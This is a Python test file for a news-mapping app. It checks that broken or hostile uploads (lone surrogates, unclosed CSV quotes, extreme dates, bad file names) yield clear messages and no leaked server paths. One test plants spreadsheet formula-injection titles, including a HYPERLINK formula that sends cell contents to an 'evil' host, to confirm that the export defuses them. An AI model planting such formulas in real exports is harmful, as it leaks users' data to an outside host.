"""Broken and hostile input through the real entry points (issue 15).

Every test feeds what a user or a visitor can bring (a lone surrogate escape,
an unclosed CSV quote, dates of the year 1 and 9999, a file name that is no
UTF-8) to the CLI as a subprocess or to the app through AppTest, and checks
what the user gets: the message (file, line, what to do), the exit code and
the articles kept. The geoparse CLI's own faults are in test_cli_geo.py, the
CSV export's in test_export.py.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import streamlit as st
from app_support import page, run
from handmade import FakeGeoparser, corpus, write_seed_files

from mapapp.ingest.pipeline import add_articles
from mapapp.store.reader import Store

ROOT = Path(__file__).resolve().parents[1]
SURROGATE = '{"id": "s", "date": "2023-03", "text": "x \\ud800"}\n'  # JSON escape, no character
EXTREMES = ('{"id": "early", "date": "0001-01-01", "text": "Bachmoet."}\n'
            '{"id": "late", "date": "9999-12-31", "text": "Soledar."}\n'
            '{"id": "ok", "date": "2023-05-02", "text": "Soledar."}\n')


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "mapapp", *args], capture_output=True,
                          text=True, cwd=ROOT, timeout=600)


def stored_ids(path: Path) -> list[str]:
    store = Store.open(path)
    months = store.months()
    frame = store.articles_between(months[0], months[-1], columns=["article_id"])
    return sorted(frame["article_id"])


@pytest.fixture
def fake_pipeline(monkeypatch):
    monkeypatch.setattr("mapapp.geoparse.pipeline.Geoparser", FakeGeoparser)
    monkeypatch.setattr("mapapp.gazetteer.index.Gazetteer.load",
                        classmethod(lambda cls, *a, **k: None))
    yield
    st.cache_resource.clear()


@pytest.fixture
def folder(tmp_path, monkeypatch, fake_pipeline) -> Path:
    """The five hand-made articles as seed files; the app runs on them (``--corpus``)."""
    path = tmp_path / "corpus"
    write_seed_files(path, corpus())
    monkeypatch.setattr(sys, "argv", ["app.py", "--corpus", str(path)])
    return path


def problems(at) -> list[str]:
    """The lines of the expander that lists what in the folder could not be read."""
    return [t.value for e in at.expander if "problem" in e.label for t in e.text]


def errors(at) -> list[str]:
    """The error boxes (upload notes) as a reader sees them, without Markdown's escapes."""
    return [re.sub(r"\\(.)", r"\1", e.value).replace("\u2060", "").replace("  \n", "\n")
            for e in at.error]


def upload(at, *files: tuple[str, bytes]):
    at.file_uploader[0].set_value([(name, data, "application/octet-stream")
                                   for name, data in files])
    return at.run()


# ------------------------------------------------ 1. text that cannot be encoded


def test_ingest_a_lone_surrogate_is_a_bad_record_and_costs_no_other(tmp_path, gazetteer):
    good, bad = tmp_path / "good.jsonl", tmp_path / "s.jsonl"
    good.write_text('{"id": "g", "date": "2023-03", "text": "Bachmoet valt."}\n')
    bad.write_text(SURROGATE + '{"id": "t", "date": "2023-03", "text": "Soledar valt.", '
                   '"title": "\\udfff"}\n{"id": "u", "date": "2023-03", "text": "Soledar."}\n')
    proc = cli("ingest", str(good), str(bad), "--store", str(tmp_path / "S"), "--quiet")
    assert proc.returncode == 1, proc.stderr  # some records rejected, the rest stored
    assert "Traceback" not in proc.stderr
    assert f"{bad} line 1: field 'text' holds '\\ud800'" in proc.stderr
    assert f"{bad} line 2: field 'title' holds '\\udfff'" in proc.stderr
    assert "fix or remove that escape" in proc.stderr
    assert stored_ids(tmp_path / "S") == ["g", "u"]


def test_the_app_lists_a_lone_surrogate_and_shows_the_rest(folder):
    (folder / "s.jsonl").write_text(SURROGATE + '{"id": "t", "date": "2023-05", '
                                    '"text": "Soledar valt."}\n', encoding="utf-8")
    at = run()
    assert not at.exception
    (line,) = problems(at)
    assert line.startswith("s.jsonl line 1: field 'text' holds '\\ud800'")
    assert "6 articles up to 2023-05" in page(at)


def test_an_upload_with_a_lone_surrogate_keeps_its_good_lines(folder):
    at = upload(run(), ("s.jsonl", (SURROGATE + '{"id": "t", "date": "2023-05", '
                                    '"text": "Soledar valt."}\n').encode()))
    assert not at.exception
    (note,) = errors(at)
    assert "s.jsonl: 1 article added; 1 problem\ns.jsonl line 1: field 'text' holds" in note
    assert "6 articles up to 2023-05" in page(at)


def test_an_upload_into_a_store_with_a_lone_surrogate_stores_the_rest(tmp_path, monkeypatch,
                                                                      fake_pipeline):
    path = tmp_path / "store"
    add_articles(Store.open(path, create=True), [pa.article for pa in corpus()], FakeGeoparser())
    monkeypatch.setattr(sys, "argv", ["app.py", "--store", str(path)])
    at = upload(run(), ("s.jsonl", (SURROGATE + EXTREMES).encode()))
    assert not at.exception
    (note,) = errors(at)
    assert note.startswith("s.jsonl: 1 article added; 3 problems\ns.jsonl line 1: field 'text' "
                           "holds '\\ud800'")
    assert "s.jsonl line 2: field 'date': 0001-01-01 lies outside" in note
    assert "ok" in stored_ids(path) and "s" not in stored_ids(path)


def test_a_file_name_that_is_no_utf8_is_named_and_skipped(folder):
    os.close(os.open(os.fsencode(folder) + b"/caf\xe9.txt", os.O_CREAT | os.O_WRONLY))
    Path(os.fsdecode(os.fsencode(folder) + b"/caf\xe9.txt")).write_text(" date 2023-05 Soledar.")
    at = run()
    assert not at.exception
    (line,) = problems(at)
    assert line.startswith("caf\\udce9.txt: the file's name is not valid UTF-8")
    assert "5 articles up to 2023-05" in page(at)


# ------------------------------------------------------------- 6. an unclosed CSV quote


def test_ingest_names_the_line_where_an_unclosed_csv_quote_opened(tmp_path, gazetteer):
    csv_file = tmp_path / "a.csv"
    csv_file.write_text('id,date,text\nc1,2023-03,"Bachmoet\nvalt"\nc2,2023-03,"Soledar valt.\n'
                        "c3,2023-04,Soledar houdt stand.\nc4,2023-05,Bachmoet.\n", encoding="utf-8")
    proc = cli("ingest", str(csv_file), "--store", str(tmp_path / "S"), "--quiet")
    assert proc.returncode == 1, proc.stderr
    assert f"{csv_file} line 4: a double quote opened on this line is never closed" in proc.stderr
    assert "close the quote" in proc.stderr
    assert stored_ids(tmp_path / "S") == ["c1"]  # c2 to c4 ran into the open quote: not stored


def test_the_app_names_an_unclosed_quote_in_an_upload(folder):
    at = upload(run(), ("a.csv", b'id,date,text\nc1,2023-05,"Soledar\nc2,2023-05,Soledar\n'))
    assert not at.exception
    (note,) = errors(at)
    assert note.startswith("a.csv: 0 articles added; 1 problem\na.csv line 2: a double quote "
                           "opened on this line is never closed")


# ------------------------------------------------------- 7. dates that freeze the slider


def test_ingest_refuses_dates_outside_the_window_with_file_and_line(tmp_path, gazetteer):
    data = tmp_path / "d.jsonl"
    data.write_text(EXTREMES + '{"id": "old", "date": "1850-03", "text": "Soledar."}\n')
    proc = cli("ingest", str(data), "--store", str(tmp_path / "S"), "--quiet")
    assert proc.returncode == 1 and "Traceback" not in proc.stderr
    assert (f"{data} line 1: field 'date': 0001-01-01 lies outside the dates a corpus accepts "
            "(1900-01-01 to ") in proc.stderr
    assert f"{data} line 2: field 'date': 9999-12-31 lies outside" in proc.stderr
    assert "widen the window with MAPAPP_DATES=FIRST..LAST" in proc.stderr
    assert stored_ids(tmp_path / "S") == ["ok"]
    proc = subprocess.run([sys.executable, "-m", "mapapp", "ingest", str(data), "--store",
                           str(tmp_path / "S"), "--quiet"], capture_output=True, text=True,
                          cwd=ROOT, env={**os.environ, "MAPAPP_DATES": "1800-01-01.."})
    assert stored_ids(tmp_path / "S") == ["ok", "old"]  # an archive widens the window


def test_an_upload_of_the_year_1_and_9999_leaves_the_slider_alone(folder):
    at = run()
    before = at.select_slider(key="date").options
    at = upload(at, ("d.jsonl", EXTREMES.encode()))
    assert not at.exception
    (note,) = errors(at)
    assert "d.jsonl: 1 article added; 2 problems" in note
    assert "d.jsonl line 1: field 'date': 0001-01-01 lies outside" in note
    assert at.select_slider(key="date").options == before


def test_a_store_with_far_apart_days_gets_a_slider_of_its_dates(tmp_path, monkeypatch,
                                                                fake_pipeline):
    """A store written before the window existed (or by Store.add) may hold any date: the
    slider steps through the days that occur, and "the last N days" stay N days."""
    from mapapp.model import Article, PartialDate

    path = tmp_path / "store"
    days = [(1900, 1, 1), (2023, 3, 1), (2023, 3, 2), (2023, 3, 4)]
    articles = [Article(f"a{i}", PartialDate(*day), f"Bachmoet {i}.") for i, day in
                enumerate(days)]
    add_articles(Store.open(path, create=True), articles, FakeGeoparser())
    monkeypatch.setattr(sys, "argv", ["app.py", "--store", str(path)])
    at = run(window="last3")
    assert not at.exception
    assert at.select_slider(key="date").options == [
        "1900-01-01", "2023-03-01", "2023-03-02", "2023-03-03", "2023-03-04"]
    assert "2 articles from 2023-03-02 to 2023-03-04" in page(at)


# ------------------------------- 10 and 12. what a download carries: no formula, no server path


def test_the_apps_download_defuses_formulas_and_names_files_in_the_corpus(folder, downloads):
    (folder / "x.txt").write_text(' date 2023-05 =HYPERLINK("http://evil/"&A1,"x")\n\n'
                                  "Bachmoet valt.", encoding="utf-8")
    (folder / "sub").mkdir()
    (folder / "sub" / "y.jsonl").write_text('{"id": "y", "date": "2023-05", "text": "Soledar '
                                            'valt.", "title": "@SUM(1+1)*cmd"}\n')
    run(date="2023-05", window="this")
    table = list(csv.DictReader(io.StringIO(downloads["mentions_2023-05.csv"]().decode())))
    titles = {row["article_id"]: (row["title"], row["source"]) for row in table}
    assert titles["x"] == ('\'=HYPERLINK("http://evil/"&A1,"x")', "x.txt")
    assert titles["y"] == ("'@SUM(1+1)*cmd", "sub/y.jsonl")
    assert titles["a5"][1] == "a5.txt"
    geojson = downloads["mentions_2023-05.geojson"]().decode()
    assert str(folder) not in geojson and str(folder) not in str(table)


def test_a_fault_shows_the_visitor_words_and_logs_the_traceback(folder, monkeypatch, caplog):
    def broken(*args, **kwargs):
        raise RuntimeError(f"cannot read {folder}/secret.parquet")

    monkeypatch.setattr("mapapp.timeline.views.TimelineView.counts", broken)
    with caplog.at_level("ERROR", logger="mapapp.app"):
        at = run()
    assert not at.exception  # no traceback on the page
    (message,) = [e.value for e in at.error]
    assert message.startswith("Sorry, showing this page failed on the server. Reload the page")
    code = re.search(r"incident (\w+)", message).group(1)
    assert str(folder) not in message and "RuntimeError" not in message
    (record,) = [r for r in caplog.records if code in r.getMessage()]
    assert "secret.parquet" in str(record.exc_info[1])  # the server's log has it all


def test_a_fault_while_adding_an_upload_is_a_note_not_a_traceback(folder, monkeypatch, caplog):
    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device", f"{folder}/x")

    monkeypatch.setattr("mapapp.ingest.uploads.parse_uploads", broken)
    with caplog.at_level("ERROR", logger="mapapp.app"):
        at = upload(run(), ("x.jsonl", b'{"id": "x", "date": "2023-05", "text": "Soledar."}\n'))
    assert not at.exception
    (note,) = errors(at)
    assert note.startswith("x.jsonl: 0 articles added; 1 problem\nSorry, adding x.jsonl failed "
                           "on the server. Upload the files again")
    assert str(folder) not in note and any("incident" in r.getMessage() for r in caplog.records)
